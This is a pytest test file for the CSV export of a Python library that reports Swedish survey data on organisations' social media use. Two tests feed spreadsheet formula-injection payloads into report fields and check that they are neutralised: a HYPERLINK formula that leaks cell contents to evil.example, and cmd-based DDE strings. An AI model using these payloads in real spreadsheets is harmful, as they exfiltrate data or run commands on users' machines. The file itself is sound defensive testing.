"""The csv format: every wave and change, the base, findings; safe cells."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from skl_socialmedia import embedded_figures, report_from_published
from skl_socialmedia.errors import InvalidArgumentError
from skl_socialmedia.formats.csv_format import (
    CHANGE_FIELDS,
    COLUMNS,
    ESTIMATE_FIELDS,
    LEADING_COLUMNS,
    TRAILING_COLUMNS,
    CsvFormat,
    columns,
    neutralise,
)
from skl_socialmedia.report.from_survey import report_from_survey
from skl_socialmedia.report.model import (
    Change,
    Estimate,
    Finding,
    Report,
    ReportRow,
    Status,
)
from skl_socialmedia.sources import load_survey
from tests.report.test_waves_and_bases import three_waves

ROOT = Path(__file__).resolve().parents[2]
PANEL = ROOT / "examples" / "data" / "synthetic_panel.csv"


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def data_rows(text: str) -> list[dict[str, str]]:
    return [r for r in read(text) if r["record"] == "row"]


def header(text: str) -> list[str]:
    return next(csv.reader(io.StringIO(text, newline="")))


def panel_lines() -> list[dict[str, str]]:
    """The synthetic panel's own lines, read without the library."""
    with PANEL.open(encoding="utf-8", newline="") as handle:
        lines = [line for line in handle if not line.startswith("#")]
    return list(csv.DictReader(lines))


def find(records: list[dict[str, str]], group: str, item: str) -> dict[str, str]:
    (record,) = [r for r in records if (r["group"], r["item"]) == (group, item)]
    return record


def test_embedded_report() -> None:
    report = report_from_published(embedded_figures())
    text = CsvFormat().render(report)
    assert header(text) == list(columns(report))
    assert text.startswith(",".join(columns(report)) + "\r\n")
    records = data_rows(text)
    assert len(records) == 4
    first = records[0]
    assert first["group"] == "municipality"
    assert first["group_label"] == "municipalities"
    assert first["item"] == "uses"
    assert first["item_label"] == "use social media"
    assert (first["value_2010"], first["value_2012"]) == ("0.61", "0.76")
    assert first["low_2010"] == first["high_2010"] == first["n_2010"] == ""
    assert first["status_2010"] == "published"
    assert first["decimals_2010"] == "0"
    assert first["low_base_2010"] == "false"
    assert first["change_value_2010_2012"] == "0.15"
    assert first["change_status_2010_2012"] == "computed"
    assert first["change_significant_2010_2012"] == ""
    assert (first["base_kind"], first["base_item"], first["base_answer"]) == (
        "published",
        "",
        "",
    )
    assert first["base_label"] == "respondents; bases not published"
    assert first["source"].startswith("The SKL press text")


def test_the_header_is_leading_columns_then_a_block_per_wave_and_change() -> None:
    report = report_from_survey(three_waves(), changes="consecutive")
    names = header(CsvFormat().render(report))
    assert names == [
        *LEADING_COLUMNS,
        *(f"{f}_{w}" for w in ("2010", "2012", "2014") for f in ESTIMATE_FIELDS),
        *(f"change_{f}_2010_2012" for f in CHANGE_FIELDS),
        *(f"change_{f}_2012_2014" for f in CHANGE_FIELDS),
        *TRAILING_COLUMNS,
    ]
    assert set(COLUMNS) <= set(names)
    assert len(set(names)) == len(names)


def test_a_three_wave_report_keeps_its_middle_wave() -> None:
    report = report_from_survey(three_waves())
    assert report.waves == ("2010", "2012", "2014")
    records = data_rows(CsvFormat().render(report))
    assert len(records) == len(report.rows)
    for record, row in zip(records, report.rows, strict=True):
        middle = row.estimate("2012")
        assert middle.value is not None
        assert float(record["value_2012"]) == pytest.approx(middle.value, abs=1e-11)
        assert int(record["n_2012"]) == middle.n
        assert float(record["low_2012"]) <= float(record["value_2012"])
        assert float(record["low_2012"]) < float(record["high_2012"])
        assert record["status_2012"] == "estimated"
        # the default change: first to last, and only that one
        assert float(record["change_value_2010_2014"]) == pytest.approx(
            row.change.value, abs=1e-11
        )
    assert "change_value_2010_2012" not in records[0]


def test_consecutive_changes_give_two_change_blocks() -> None:
    report = report_from_survey(three_waves(), changes="consecutive")
    records = data_rows(CsvFormat().render(report))
    assert "change_value_2010_2014" not in records[0]
    for record, row in zip(records, report.rows, strict=True):
        first, second = row.changes
        for change, key in ((first, "2010_2012"), (second, "2012_2014")):
            assert change.value is not None
            assert float(record[f"change_value_{key}"]) == pytest.approx(
                change.value, abs=1e-11
            )
            assert record[f"change_construction_{key}"] == change.construction
        gap = float(record["value_2012"]) - float(record["value_2010"])
        assert float(record["change_value_2010_2012"]) == pytest.approx(gap)


def test_routed_rows_carry_their_base_and_its_number() -> None:
    report = report_from_survey(load_survey(PANEL))
    records = data_rows(CsvFormat().render(report))
    for item in ("channel.facebook", "purpose.recruitment"):
        record = find(records, "municipality", item)
        assert (record["base_kind"], record["base_item"]) == ("routed", "uses")
        assert record["base_answer"] == "true"
        assert record["base_label"] == "users of social media"
    reason = find(records, "county_council", "reason.resources")
    assert (reason["base_kind"], reason["base_answer"]) == ("routed", "false")
    assert reason["base_label"] == "non-users of social media"
    uses = find(records, "municipality", "uses")
    assert (uses["base_kind"], uses["base_item"], uses["base_answer"]) == (
        "answered",
        "",
        "",
    )
    # By hand from the data file: municipalities in 2010 that use social
    # media (asked about Facebook) and answered the Facebook question.
    asked = [
        line
        for line in panel_lines()
        if (line["wave"], line["org_kind"], line["uses"])
        == ("2010", "municipality", "1")
        and line["channel.facebook"] != ""
    ]
    facebook = find(records, "municipality", "channel.facebook")
    assert int(facebook["n_2010"]) == len(asked)
    yes = sum(line["channel.facebook"] == "1" for line in asked)
    assert float(facebook["successes_2010"]) == yes
    users = [
        line
        for line in panel_lines()
        if (line["wave"], line["org_kind"], line["uses"])
        == ("2010", "municipality", "1")
    ]
    assert len(asked) < len(users)  # a base of answers, not of users


def test_base_all_rows_are_shares_of_every_respondent() -> None:
    report = report_from_survey(
        load_survey(PANEL), items=["channel.facebook"], base="all"
    )
    records = data_rows(CsvFormat().render(report))
    assert records
    for record in records:
        assert (record["base_kind"], record["base_item"]) == ("all", "")
        assert record["base_answer"] == ""
        assert record["base_label"] == "all respondents"
    swedish = data_rows(CsvFormat().render(report, lang="sv"))
    assert swedish[0]["base_label"] == "samtliga svarande"
    # non-users (not asked) count as no; users who left Facebook blank do not
    everyone = [
        line
        for line in panel_lines()
        if (line["wave"], line["org_kind"]) == ("2010", "municipality")
        and (line["uses"] == "0" or line["channel.facebook"] != "")
    ]
    facebook = find(records, "municipality", "channel.facebook")
    assert int(facebook["n_2010"]) == len(everyone)


def test_every_line_carries_the_source_and_the_description() -> None:
    source = "examples/data/synthetic_panel.csv"
    report = report_from_survey(load_survey(PANEL), source=source)
    records = read(CsvFormat().render(report))
    assert records
    for record in records:
        assert record["source"] == source
        assert record["description"].startswith("SYNTHETIC DATA")
        assert record["confidence"] == "0.95"
        assert record["weighted"] == "false"
    assert report_from_published(embedded_figures()).description is None
    assert {
        r["description"]
        for r in read(CsvFormat().render(report_from_published(embedded_figures())))
    } == {""}


def test_findings_follow_the_rows_one_line_each() -> None:
    report = report_from_published(embedded_figures())
    records = read(CsvFormat().render(report, lang="sv"))
    kinds = [r["record"] for r in records]
    assert kinds == ["row"] * len(report.rows) + ["finding"] * len(report.findings)
    findings = records[len(report.rows) :]
    assert [f["finding_text"] for f in findings] == [f.text.sv for f in report.findings]
    assert findings[0]["finding_topic"] == "channels"
    assert {f["finding_status"] for f in findings} == {"published"}
    for finding in findings:
        figures = [k for k in finding if k.startswith(("value_", "change_value_"))]
        assert figures
        assert all(finding[k] == "" for k in figures)
        assert finding["group"] == finding["item"] == ""
    rows = records[: len(report.rows)]
    assert {r["finding_text"] for r in rows} == {""}


def test_swedish_translates_labels_only() -> None:
    report = report_from_published(embedded_figures())
    english = read(CsvFormat().render(report, lang="en"))
    swedish = read(CsvFormat().render(report, lang="sv"))
    assert list(swedish[0]) == list(english[0])
    assert swedish[0]["group_label"] == "kommuner"
    assert swedish[0]["item_label"] == "använder sociala medier"
    labels = {
        "group_label",
        "item_label",
        "among_label",
        "base_label",
        "finding_text",
        "source",
        "description",
    }
    labels |= {c for c in english[0] if c.startswith(("note_", "change_note_"))}
    labels.add("row_note")
    for en, sv in zip(english, swedish, strict=True):
        assert {k: v for k, v in en.items() if k not in labels} == {
            k: v for k, v in sv.items() if k not in labels
        }
    # Machine-readable in both languages: '.' decimals, ',' delimiter.
    assert swedish[2]["value_2010"] == "0.611290322581"


def test_microdata_report_keeps_negative_numbers_numeric() -> None:
    report = report_from_survey(load_survey(PANEL))
    records = read(CsvFormat().render(report))
    assert len(records) == len(report.rows)
    key = "change_low_2010_2012"
    negative = [r for r in records if r[key].startswith("-")]
    assert negative, "the synthetic panel has changes whose interval crosses zero"
    for record in negative:
        assert float(record[key]) < 0
    first = records[0]
    assert float(first["low_2010"]) < float(first["value_2010"])
    assert first["change_paired_2010_2012"] in ("true", "false")
    assert first["change_method_2010_2012"] == "newcombe"
    assert float(first["total_2010"]) > 0
    assert int(first["n_2010"]) == 290


def test_a_weighted_report_counts_n_and_weighs_total() -> None:
    report = report_from_survey(three_waves(weighted=True))
    records = data_rows(CsvFormat().render(report))
    assert {r["weighted"] for r in records} == {"true"}
    first, row = records[0], report.rows[0]
    assert int(first["n_2012"]) == row.estimate("2012").n
    assert float(first["total_2012"]) != int(first["n_2012"])


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_injection_in_an_organisation_name_is_neutralised(
    hostile: str,
) -> None:
    row = ReportRow(
        group=hostile,
        item=hostile,
        estimates=[
            Estimate(wave="2010", value=0.5, status=Status.ESTIMATED, note=hostile),
            Estimate(wave="2012", value=0.45, status=Status.ESTIMATED),
        ],
        changes=[
            Change(
                value=-0.05, low=-0.1, high=0.0, method=hostile, status=Status.ESTIMATED
            )
        ],
        note=hostile,
    )
    report = Report(
        title=hostile,
        source=hostile,
        before_wave="2010",
        after_wave="2012",
        rows=[row],
        description=hostile,
        findings=[Finding(hostile, topic=hostile)],
    )
    record, finding = read(CsvFormat().render(report))
    for column in ("group", "group_label", "item", "item_label", "note_2010"):
        assert record[column] == "'" + hostile, column
    assert record["change_method_2010_2012"] == "'" + hostile
    assert record["row_note"] == "'" + hostile
    for column in ("source", "description"):
        assert record[column] == finding[column] == "'" + hostile, column
    assert finding["finding_text"] == finding["finding_topic"] == "'" + hostile
    # Numbers stay numbers, even negative ones.
    assert record["change_value_2010_2012"] == "-0.05"
    assert record["change_low_2010_2012"] == "-0.1"


def test_a_hostile_wave_label_never_starts_a_header_cell() -> None:
    wave = "=cmd|' /C calc'!A0"
    row = ReportRow(
        group="municipality",
        item="uses",
        estimates=[
            Estimate(wave=wave, value=0.5, status=Status.ESTIMATED),
            Estimate(wave="2012", value=0.4, status=Status.ESTIMATED),
        ],
        changes=[Change(value=-0.1, status=Status.ESTIMATED)],
    )
    report = Report("t", "s", wave, "2012", [row])
    names = header(CsvFormat().render(report))
    assert f"value_{wave}" in names
    assert f"change_value_{wave}_2012" in names
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)


def test_waves_that_would_share_column_names_are_refused() -> None:
    row = ReportRow(
        group="municipality",
        item="uses",
        estimates=[
            Estimate(wave="2010", value=0.5, status=Status.ESTIMATED),
            Estimate(wave="2010", value=0.4, status=Status.ESTIMATED),
        ],
        changes=[Change(value=-0.1, status=Status.ESTIMATED)],
    )
    with pytest.raises(InvalidArgumentError, match="repeats one"):
        CsvFormat().render(Report("t", "s", "2010", "2012", [row]))
    twice = Report("t", "s", "2010", "2012", [], waves=("2010", "2010"))
    with pytest.raises(InvalidArgumentError, match="give the waves distinct labels"):
        CsvFormat().render(twice)
    # low_base_<x> and low_<base_x> would be one column
    clashing = Report("t", "s", "x", "base_x", [], waves=("x", "base_x"))
    with pytest.raises(InvalidArgumentError, match="clashing column names"):
        CsvFormat().render(clashing)


def test_the_common_options() -> None:
    report = report_from_survey(load_survey(PANEL))
    plain = CsvFormat().render(report)
    # full precision whatever decimals says
    assert CsvFormat().render(report, decimals=0) == plain
    bare = data_rows(CsvFormat().render(report, intervals=False))
    assert header(CsvFormat().render(report, intervals=False)) == header(plain)
    for record in bare:
        for key in ("low_2010", "high_2012", "change_low_2010_2012"):
            assert record[key] == "", key
        assert record["value_2010"] != ""
    significant = data_rows(CsvFormat().render(report, only_significant=True))
    expected = [r for r in report.rows if r.change.significant]
    assert 0 < len(significant) == len(expected) < len(report.rows)
    assert {r["change_significant_2010_2012"] for r in significant} == {"true"}
    with pytest.raises(InvalidArgumentError, match="no option colour"):
        CsvFormat().render(report, colour="red")


def test_nul_becomes_the_replacement_character() -> None:
    assert neutralise("a\0b") == "a\ufffdb"


def test_neutralise_is_reversible() -> None:
    for text in ["=1", "'=1", "'quoted", "plain", "", "-", "Åre"]:
        neutral = neutralise(text)
        assert not neutral.startswith(("=", "+", "-", "@", "\t", "\r"))
        original = neutral[1:] if neutral.startswith("'") else neutral
        assert original == text
